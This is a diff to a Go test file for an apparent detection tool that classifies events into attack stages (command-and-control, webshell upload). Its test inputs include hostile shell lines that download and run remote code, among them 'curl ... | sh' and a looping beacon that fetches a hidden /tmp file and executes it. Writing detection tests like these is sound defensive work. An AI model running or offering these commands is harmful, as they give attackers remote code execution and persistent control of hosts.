@@ -167,6 +167,7 @@ func TestPlace(t *testing.T) {
 		{"https default port", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, Command: "wget -q https://203.0.113.7/t -O /tmp/t", WebServer: true, PeerIP: "203.0.113.7", Port: 443}, StageSuspiciousSpawn},
 		{"another peer than the URL's", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, Command: "curl -s http://127.0.0.1:8000/x | sh", OpensChannel: true, WebServer: true, PeerIP: "127.0.0.1", Port: 4444}, StageCommandAndControl},
 		{"a polling loop is a beacon", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, Command: "while true; do curl -s http://10.0.0.9:8080/t | sh; sleep 5; done", WebServer: true, PeerIP: "10.0.0.9", Port: 8080}, StageCommandAndControl},
+		{"a fetch its shell polls", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, Command: "curl -fsS http://10.0.0.9:8080/t -o /tmp/.t\nwhile :; do curl -fsS http://10.0.0.9:8080/t -o /tmp/.t; sh /tmp/.t; sleep 20; done", WebServer: true, PeerIP: "10.0.0.9", Port: 8080}, StageCommandAndControl},
 		{"a fetch inside a channel", PlaceInput{Default: StageCommandAndControl, Kind: parser.KindConnect, Command: "wget http://10.0.0.9/t", InChannel: true, PeerIP: "10.0.0.9", Port: 80}, StageCommandAndControl},
 		{"web root script write", PlaceInput{Default: StageWebshellUpload, Kind: parser.KindRename, InChannel: true}, StageWebshellUpload},
 		{"credential read in channel", PlaceInput{Default: StageSuspiciousSpawn, Kind: parser.KindFileRead, InChannel: true}, StageCommandAndControl},
